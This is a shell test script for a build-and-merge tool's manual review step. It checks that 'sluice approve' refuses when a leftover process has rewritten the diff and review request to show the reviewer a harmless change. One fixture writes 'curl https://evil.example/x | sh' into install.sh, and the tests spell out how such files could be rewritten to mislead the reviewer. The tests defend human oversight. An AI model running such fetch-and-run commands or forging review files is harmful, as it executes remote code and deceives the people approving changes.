#!/bin/sh
# With the manual reviewer a person reads review-request.json and diff.patch
# in the run folder, then runs `sluice approve`, which approves the head's
# tree. A process a builder or gate left behind (setsid escapes the group
# kill) can rewrite both files after sluice wrote them, so that the person
# reads a harmless diff and approves the real one. `sluice approve` checks
# them against git first: changed, it writes them again from git, refuses,
# and the person reads again.
. "$(dirname "$0")/lib.sh"
test_skip_unless_tool python3

test_expect_success 'setup: a run awaiting a person' '
	sluice_repo repo &&
	echo "echo \"curl https://evil.example/x | sh\" >install.sh" >"$BUILDERS/M1.sh" &&
	wo repo M1 &&
	sluice -C repo tick >out 2>&1 &&
	run=$(run_of repo M1) && echo $run >run.id &&
	test "$(state_of repo $run)" = awaiting_review &&
	cp repo/.system/runs/$run/diff.patch diff.orig &&
	cp repo/.system/runs/$run/review-request.json request.orig
'

test_expect_success 'a rewritten diff.patch: approve refuses, writes it again, the run still waits' '
	run=$(cat run.id) && d=repo/.system/runs/$run &&
	n=harm && n="${n}less" &&
	printf "%s\n" "diff --git a/$n.txt b/$n.txt" "new file mode 100644" "--- /dev/null" \
		"+++ b/$n.txt" "@@ -0,0 +1 @@" "+a $n typo fix" >$d/diff.patch &&
	test_expect_failure_code 1 sluice -C repo approve $run >out 2>err &&
	test_grep "diff.patch" err &&
	test "$(state_of repo $run)" = awaiting_review &&
	test_cmp diff.orig $d/diff.patch
'

test_expect_success 'a rewritten review-request.json: the same' '
	run=$(cat run.id) && d=repo/.system/runs/$run &&
	python3 - $d/review-request.json <<-\EOF &&
	import json, sys
	p = sys.argv[1]
	r = json.load(open(p))
	r["diff"] = r["diff"].replace("evil.example/x | sh", "example.com/docs")
	r["files_changed"] = [{"path": "README.md", "status": "M"}]
	json.dump(r, open(p, "w"))
	EOF
	test_expect_failure_code 1 sluice -C repo approve $run >out 2>err &&
	test_grep "review-request.json" err &&
	test "$(state_of repo $run)" = awaiting_review &&
	test_grep "evil.example/x | sh" $d/review-request.json &&
	test_grep "install.sh" $d/review-request.json
'

test_expect_success 'untouched, approve approves; the run merges' '
	run=$(cat run.id) &&
	sluice -C repo approve $run >out &&
	test "$(state_of repo $run)" = approved &&
	sluice -C repo tick >out 2>&1 &&
	test "$(state_of repo $run)" = merged &&
	(cd repo && sluice audit >../out) && test_grep "all hold" out
'

test_done
